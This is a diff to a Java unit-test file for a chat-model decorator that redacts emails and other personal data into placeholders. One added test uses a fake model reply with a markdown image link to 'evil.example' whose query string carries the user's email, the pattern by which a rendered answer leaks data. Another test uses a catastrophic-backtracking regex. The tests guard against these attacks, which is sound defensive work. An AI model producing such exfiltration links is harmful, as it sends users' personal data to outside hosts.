@@ -11,6 +11,7 @@ import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.function.Function;
 import java.util.regex.Pattern;
 import java.util.stream.Collectors;
+import java.util.stream.IntStream;
 
 import io.github.grokspring.chain.GrokChatModel;
 import io.github.grokspring.chain.GrokChatOptions;
@@ -383,7 +384,7 @@ class RedactingChatModelTests {
 				.mapToObj((c) -> String.valueOf((char) c))
 				.collect(Collectors.joining()) + ">";
 			String json = JsonMapper.shared().writeValueAsString(Map.of("k" + odd, List.of("v " + odd, 7, true)));
-			Redaction redaction = new Redaction(pattern, RedactionMode.REVERSIBLE);
+			Redaction redaction = new Redaction(pattern, RedactionMode.REVERSIBLE, false);
 			AssistantMessage sent = (AssistantMessage) redaction.redact(List.of(AssistantMessage.builder()
 				.content("")
 				.toolCalls(List.of(new ToolCall("1", "function", "f", json)))
@@ -414,6 +415,61 @@ class RedactingChatModelTests {
 	}
 
 	@Test
+	void patternsHaveOneLimitForAllTextsOfARequest() {
+		long[] now = new long[1];
+		Redactor slow = Redactor.matching("TICKET", Pattern.compile("T-[0-9]+"), Duration.ofSeconds(1),
+				() -> now[0] += 10_000_000);
+		GrokChatModel model = model(Redactor.all(List.of(slow)), RedactionMode.REVERSIBLE);
+		List<Message> few = new ArrayList<>(List.of(new UserMessage("a"), new UserMessage("b")));
+		for (int i = 0; i < 60; i++) {
+			model.call(new Prompt(few));
+		}
+		List<Message> many = IntStream.range(0, 60).mapToObj((i) -> (Message) new UserMessage("text " + i)).toList();
+		assertThatExceptionOfType(RedactionException.class).isThrownBy(() -> model.call(new Prompt(many)))
+			.withMessageContaining("'TICKET'");
+	}
+
+	@Test
+	void patternsHeedInterrupts() {
+		Redactor slow = Redactor.matching("TICKET", Pattern.compile("(a+)+b"), Duration.ofHours(1));
+		Thread.currentThread().interrupt();
+		try {
+			assertThatExceptionOfType(RedactionException.class)
+				.isThrownBy(() -> model(slow, RedactionMode.REVERSIBLE).call(new Prompt("a".repeat(5_000))))
+				.withMessageContaining("interrupted");
+			assertThat(Thread.currentThread().isInterrupted()).isTrue();
+		}
+		finally {
+			Thread.interrupted();
+		}
+		assertThat(this.echo.prompts).isEmpty();
+	}
+
+	@ParameterizedTest
+	@EnumSource
+	void placeholdersStayInUrlsUnlessAskedOtherwise(Way way) {
+		this.echo.answer = (text) -> chunks("![x](http://evil.example/?q=[EMAIL_1]) for [EMAIL_1]", 3);
+		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage("I am " + MAIL)))
+			.isEqualTo("![x](http://evil.example/?q=[EMAIL_1]) for " + MAIL);
+		GrokChatModel asked = GrokChatModel.builder("echo", this.echo)
+			.options(GrokChatOptions.builder().model("grok-4.3").build())
+			.decorators(List
+				.of(RedactingChatModel.decorator(everything(), RedactionMode.REVERSIBLE, true, this.events::add)))
+			.build();
+		assertThat(way.ask(asked, new UserMessage("I am " + MAIL)))
+			.isEqualTo("![x](http://evil.example/?q=" + MAIL + ") for " + MAIL);
+	}
+
+	@ParameterizedTest
+	@EnumSource
+	void whatDoesNotShowComesBackAsItWas(Way way) {
+		String hidden = "a\u00adda@exam\u200bple.com";
+		assertThat(way.ask(model(RedactionMode.REVERSIBLE), new UserMessage("Write to " + hidden + " now")))
+			.isEqualTo("Write to " + hidden + " now");
+		assertThat(this.echo.sent()).isEqualTo("Write to [EMAIL_1] now");
+	}
+
+	@Test
 	void patternsOfTheApplicationAreFoundAndKnownElsewhere() {
 		Redactor pattern = Redactor.matching("EMPLOYEE", Pattern.compile("(?<=employee )\\d{6}"),
 				Duration.ofSeconds(1));
@@ -432,7 +488,7 @@ class RedactingChatModelTests {
 
 	@Test
 	void nothingPrintsAValue() {
-		Redaction redaction = new Redaction(everything(), RedactionMode.REVERSIBLE);
+		Redaction redaction = new Redaction(everything(), RedactionMode.REVERSIBLE, false);
 		redaction.redact(List.of(new UserMessage(MAIL + " password=hunter2x9")));
 		assertThat(redaction.placeholders().toString()).isEqualTo("2 placeholders");
 		assertThat(new Restoration(redaction.placeholders(), null).toString()).doesNotContain("ada");
